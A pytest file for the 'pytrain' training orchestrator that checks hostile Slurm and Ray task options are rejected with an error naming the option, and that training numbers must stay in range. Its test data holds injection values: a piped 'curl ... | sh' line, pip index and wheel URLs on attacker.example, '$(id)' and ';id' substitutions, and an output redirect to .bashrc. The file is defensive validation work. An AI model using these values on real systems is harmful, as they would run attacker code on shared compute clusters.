"""Task options a careless or hostile user could give, on the real PostgreSQL: Slurm values that
would inject into the batch script (``options["slurm"]``), Ray values that would reach the
cluster (``options["ray"]``: a pip option or URL, a resource name with shell text) and training
numbers out of their range.

``pytrain submit`` refuses them (nothing is inserted); a row inserted with plain SQL is claimed and
failed with an error naming the option before any runner sees it, and the worker goes on to the
next task. The renderer's own refusal is in ``tests/slurm/test_slurm_units.py``; the same row on
the real cluster in ``tests/slurm/test_slurm_cluster.py``.
"""

from __future__ import annotations

import dataclasses
import json
import re

import pytest
from fixtures.slurm import HOSTILE_SUFFIXES
from orchestrator_fakes import FakePublisher, FakeRunner
from test_cli import cli  # noqa: F401 - the fixture

from pytrain.db import TaskQueue
from pytrain.errors import ConfigurationError
from pytrain.orchestrator import Orchestrator
from pytrain.spec import task_dir_name
from pytrain.task_options import TrainConfig, check_options

TASK = ["-m", "kitchen", "-s", "dataset1", "-c", "cooking,drinking"]
# (options, what the error says after "task option ")
BAD_OPTIONS = [
    *(({"slurm": {"partition": "debug" + suffix}}, f"slurm.partition={'debug' + suffix!r}: must be a Slurm partition name")
      for suffix in HOSTILE_SUFFIXES.values()),
    ({"slurm": {"account": "lab;id"}}, "slurm.account='lab;id': must be a Slurm account name"),
    ({"slurm": {"mem": "200G\nid"}}, "slurm.mem='200G\\nid': must be a memory size"),
    ({"slurm": {"extra_sbatch": "--exclusive\ncurl -s http://x/y | sh"}},
     "slurm.extra_sbatch='--exclusive\\ncurl -s http://x/y | sh': item 'curl -s http://x/y | sh' is not --name or --name=value"),
    ({"slurm": {"extra_sbatch": "--output=/home/u/.bashrc"}}, "slurm.extra_sbatch='--output=/home/u/.bashrc': item"),
    ({"slurm": {"container_image": "img $(id)"}}, "slurm.container_image='img $(id)': must be an enroot/pyxis image"),
    *(({"ray": {"accelerator_type": "H100" + suffix}}, f"ray.accelerator_type={'H100' + suffix!r}: must be a Ray accelerator type")
      for suffix in HOSTILE_SUFFIXES.values()),
    ({"ray": {"pip": ["--index-url=http://attacker.example/simple"]}},
     "ray.pip=['--index-url=http://attacker.example/simple']: must be a pip requirement specifier"),
    ({"ray": {"pip": ["torch @ https://attacker.example/torch.whl"]}},
     "ray.pip=['torch @ https://attacker.example/torch.whl']: must be a pip requirement specifier"),
    ({"ray": {"resources": {"node a; id": 1}}}, "ray.resources={'node a; id': 1}: must be a custom resource name"),
    ({"ray": {"resources": {"node_a": -1}}}, "ray.resources={'node_a': -1}: Input should be greater than 0"),
    ({"ray": {"container_image": "img $(id)"}}, "ray.container_image='img $(id)': must be an OCI image reference"),
    ({"ray": {"memory": "8G\nid"}}, "ray.memory='8G\\nid': must be a memory size"),
    ({"ray": {"address": "http://elsewhere:8265"}}, "ray.address is not a Ray setting"),
    ({"ray": {"python": "/tmp/evil"}}, "ray.python is not a Ray setting"),
    ({"dropout": 1.5}, "dropout=1.5 is out of range: it must be >= 0 and < 1"),
    ({"weight_decay": -1}, "weight_decay=-1.0 is out of range: it must be >= 0 and <= 1"),
    ({"patience": 0}, "patience=0 is out of range: it must be >= 1 and <= 100000"),
    ({"experiment": " "}, "experiment=' ' is not a non-empty name of at most 255 characters"),
    ({"experiment": ["a"]}, "experiment=['a'] is not a non-empty name of at most 255 characters"),
]


def test_submit_refuses_hostile_slurm_values_and_out_of_range_numbers_naming_the_option(cli, engine, synced):
    for options, expected in BAD_OPTIONS:
        code, _, err = cli("submit", *TASK, *(arg for key, value in options.items() for arg in ("-o", f"{key}={json.dumps(value)}")))
        assert code == 1, options
        assert f": task option {expected}" in err, (options, err)
        assert "(hint: " in err
    assert TaskQueue(engine).counts() == {}
    code, out, _ = cli("submit", *TASK, "-o", 'slurm={"partition": "gpu,debug", "mem": "200G", "extra_sbatch": "--exclusive"}',
                       "-o", 'ray={"gpus_per_node": 8, "accelerator_type": "H100", "resources": {"spot": 1}, "pip": ["av>=12,<13"]}',
                       "-o", "dropout=0", "-o", "weight_decay=1")
    assert (code, out.strip()) == (0, "task 1 queued (kitchen)")  # the bounds themselves are allowed


def test_a_raw_row_with_a_hostile_option_fails_at_claim_naming_it_and_the_worker_goes_on(settings, engine, synced):
    from sqlalchemy import text

    with engine.begin() as conn:
        ids = [int(conn.execute(text("INSERT INTO training_tasks (model_name, sources, classes, architecture, options) "
                                     "VALUES ('hostile', '{dataset1}', '{cooking,drinking}', 'tiny', CAST(:options AS jsonb)) RETURNING id"),
                                {"options": json.dumps(options)}).scalar_one())
               for options, _ in BAD_OPTIONS]
    queue = TaskQueue(engine)
    normal = queue.submit({"model_name": "kitchen", "sources": ["dataset1"], "classes": ["cooking", "drinking"], "architecture": "tiny"})
    runner = FakeRunner()
    assert Orchestrator(settings, engine=engine, runner=runner, publisher=FakePublisher()).run(exit_when_idle=True) == len(ids) + 1

    assert runner.runs == [normal]  # no hostile row reached a runner
    for task_id, (options, expected) in zip(ids, BAD_OPTIONS):
        row = queue.get(task_id)
        assert row["status"] == "failed", options
        assert re.sub(r" \(hint: .*", "", row["error"], flags=re.S).startswith(f"cannot prepare task {task_id}: task option {expected}"), row["error"]
    assert queue.get(normal)["status"] == "succeeded"
    assert sorted(p.name for p in settings.model_tasks_dir.iterdir()) == [task_dir_name(normal, "kitchen", queue.get(normal).uid)]


def test_every_training_number_has_a_range_and_each_side_is_refused_naming_the_option_and_range():
    numbers = [f for f in dataclasses.fields(TrainConfig) if type(f.default) in (int, float)]
    assert numbers and all(f.metadata.get("bounds") for f in numbers), [f.name for f in numbers if not f.metadata.get("bounds")]
    check_options({})  # the defaults lie within their ranges
    for option in numbers:
        kind = type(option.default)
        step = 1 if kind is int else 1e-3
        for side, limit in option.metadata["bounds"].items():
            if side in ("ge", "le"):
                check_options({option.name: kind(limit)})  # a closed bound is allowed
            outside = kind({"ge": limit - step, "gt": limit, "le": limit + step, "lt": limit}[side])
            with pytest.raises(ConfigurationError, match=rf"task option {option.name}={outside!r} is out of range: it must be "):
                check_options({option.name: outside})
